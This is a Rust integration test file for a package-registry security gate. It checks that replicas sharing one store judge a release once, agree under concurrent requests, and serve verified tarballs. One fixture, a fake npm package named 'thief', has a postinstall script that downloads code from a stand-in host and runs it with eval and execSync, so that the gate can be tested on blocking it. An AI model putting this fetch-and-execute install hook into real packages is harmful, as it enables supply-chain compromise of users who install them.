//! Two gates with one store: the code of a release is read once for both, and both say the same.
#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    reason = "a test that cannot go on says so"
)]
mod stand;

use std::sync::{
    Arc,
    atomic::{AtomicUsize, Ordering},
};

use cleanbill_embedded::{FolderBlobs, SqliteStore};
use cleanbill_engine::{CodePorts, Voices, answer};
use cleanbill_model::{Age, Integrity, Verdict};
use cleanbill_policy::{Cooldown, Policy};
use cleanbill_ports::{BlobKey, Blobs, GateStore as _, ReadError, Reader};
use cleanbill_testkit::{Behaviour, MemoryBlobs, PackageBuilder, Registry};
use futures::future::BoxFuture;
use stand::{Stand, left};

/// Reads in a thread with the stack the reading asks for, and counts.
#[derive(Default)]
struct Counting(AtomicUsize);

impl Reader for Counting {
    fn read<'a>(&'a self, request: &'a [u8]) -> BoxFuture<'a, Result<Vec<u8>, ReadError>> {
        self.0.fetch_add(1, Ordering::SeqCst);
        let request = request.to_vec();
        Box::pin(async move {
            let reading = tokio::task::spawn_blocking(move || {
                let work = std::thread::Builder::new()
                    .stack_size(256 << 20)
                    .spawn(move || answer(&request));
                work.unwrap().join().unwrap()
            });
            Ok(reading.await.unwrap())
        })
    }
}

const NOW: &str = "2026-06-20T00:00:00Z";
/// What its code does is what an install script of a thief does, inert: the host is reserved.
const THIEF: &str = "const { execSync } = require('child_process');\nconst https = require('https');\n\
    https.get('https://drop.example/x', (r) => { let b = ''; r.on('data', (d) => b += d); r.on('end', () => { eval(b); execSync(b); }); });\n";

fn packages() -> Registry {
    let manifest =
        "{\"name\":\"thief\",\"version\":\"1.0.1\",\"scripts\":{\"postinstall\":\"node steal.js\"}}";
    let old = "2020-01-01T00:00:00.000Z";
    Registry::with([
        PackageBuilder::new("thief")
            .partial(serde_json::json!({"time": {"created": old}}))
            .release("1.0.0", &[("index.js", "module.exports = 1;\n")])
            .published("1.0.0", old)
            .release(
                "1.0.1",
                &[("package.json", manifest), ("steal.js", THIEF), ("index.js", "")],
            )
            .published("1.0.1", "2026-06-19T00:00:00.000Z")
            .tag("latest", "1.0.1")
            .build(),
        PackageBuilder::new("calm")
            .partial(serde_json::json!({"time": {"created": old}}))
            .release("1.0.0", &[("index.js", "module.exports = (a, b) => a + b;\n")])
            .published("1.0.0", "2026-06-19T00:00:00.000Z")
            .tag("latest", "1.0.0")
            .build(),
    ])
}

async fn replica(file: &std::path::Path, basis: &str) -> (Stand, Arc<Counting>) {
    let reader = Arc::new(Counting::default());
    let (given, store) = (Arc::clone(&reader), SqliteStore::open(file).unwrap());
    let basis = basis.to_owned();
    let stand = Stand::with(packages(), NOW, move |settings| {
        settings.store = Some(Arc::new(store));
        // No cooldown: what is held is held for its code.
        settings.enforcer.policy = Arc::new(Policy {
            cooldown: Cooldown {
                release: Age::default(),
                name: Age::default(),
                ..Cooldown::default()
            },
            ..Policy::default()
        });
        settings.enforcer.basis = basis;
        settings.enforcer.code = Some(CodePorts {
            reader: Arc::<Counting>::clone(&given),
            stage: given,
            voices: Voices::Static,
            cache: Arc::new(MemoryBlobs::default()),
        });
    })
    .await;
    (stand, reader)
}

const CALM: &str = "/calm/-/calm-1.0.0.tgz";

#[tokio::test(flavor = "multi_thread")]
async fn what_one_replica_has_read_the_other_does_not_read_again_under_the_same_rules() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("gate.sqlite");
    let (first, reads) = replica(&file, "rules one").await;
    assert_eq!(first.status(CALM).await, 200);
    let thief = first.get("/thief/-/thief-1.0.1.tgz", &[]).await;
    assert_eq!(thief.status(), 403, "{}", thief.text().await.unwrap());
    let read = reads.0.load(Ordering::SeqCst);
    assert!(read >= 2, "both were read");
    let (second, again) = replica(&file, "rules one").await;
    assert_eq!(second.status(CALM).await, 200);
    let thief = second.get("/thief/-/thief-1.0.1.tgz", &[]).await;
    assert_eq!(thief.status(), 403);
    assert!(thief.text().await.unwrap().contains("thief@1.0.1"));
    assert_eq!(again.0.load(Ordering::SeqCst), 0, "nothing was read twice");
    let (other, anew) = replica(&file, "rules two").await;
    assert_eq!(other.status(CALM).await, 200);
    assert!(
        anew.0.load(Ordering::SeqCst) > 0,
        "other rules, another judgement"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn replicas_that_race_on_one_release_say_the_same() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("gate.sqlite");
    let (one, _) = replica(&file, "rules").await;
    let (two, _) = replica(&file, "rules").await;
    let (one, two) = (Arc::new(one), Arc::new(two));
    let mut tasks = Vec::new();
    for n in 0..20 {
        let stand = Arc::clone(if n % 2 == 0 { &one } else { &two });
        tasks.push(tokio::spawn(async move {
            let answer = stand.get("/thief/-/thief-1.0.1.tgz", &[]).await;
            (answer.status().as_u16(), answer.text().await.unwrap())
        }));
    }
    let mut said = Vec::new();
    for task in tasks {
        said.push(task.await.unwrap());
    }
    assert!(said.iter().all(|answer| *answer == said[0]), "{said:?}");
    assert_eq!(said[0].0, 403);
    let store = SqliteStore::open(&file).unwrap();
    let events = store.about(&stand::name("thief"), None, 100).unwrap();
    assert_eq!(events.len(), 20);
    assert!(
        events
            .iter()
            .all(|event| event.verdict >= Some(Verdict::Quarantine))
    );
}

#[tokio::test]
async fn a_tarball_one_replica_has_verified_another_serves_without_its_registry_and_never_other_bytes() {
    let folder = tempfile::tempdir().unwrap();
    let shelf: Arc<dyn Blobs> = Arc::new(FolderBlobs::in_folder(folder.path()));
    let replica = |shelf: Arc<dyn Blobs>| {
        Stand::with(
            Registry::with([left().build()]),
            "2026-07-01T00:00:00Z",
            |settings| {
                settings.tarballs = Some(shelf);
            },
        )
    };
    let tarball = "/left/-/left-1.0.0.tgz";
    let one = replica(Arc::clone(&shelf)).await;
    let bytes = one.get(tarball, &[]).await.bytes().await.unwrap();
    let document = one.json("/left").await;
    let integrity = Integrity::parse(
        document["versions"]["1.0.0"]["dist"]["integrity"]
            .as_str()
            .unwrap(),
    )
    .unwrap();
    let hex: String = integrity.digests()[0]
        .bytes
        .iter()
        .map(|byte| format!("{byte:02x}"))
        .collect();
    let key = BlobKey::parse(&hex).unwrap();
    let started = std::time::Instant::now();
    while shelf.get(&key).unwrap().is_none() {
        assert!(
            started.elapsed() < std::time::Duration::from_secs(10),
            "it is never shared"
        );
        tokio::time::sleep(std::time::Duration::from_millis(5)).await;
    }
    let other = replica(Arc::clone(&shelf)).await;
    other.registry.order_always(tarball, Behaviour::Status(404));
    assert_eq!(other.get(tarball, &[]).await.bytes().await.unwrap(), bytes);
    assert_eq!(other.registry.requests_for(tarball).len(), 0);
    // Whoever writes into the shelf has written nothing into the gate.
    shelf.put(&key, b"other bytes").unwrap();
    let third = replica(Arc::clone(&shelf)).await;
    assert_eq!(third.get(tarball, &[]).await.bytes().await.unwrap(), bytes);
    assert_eq!(third.registry.requests_for(tarball).len(), 1);
}
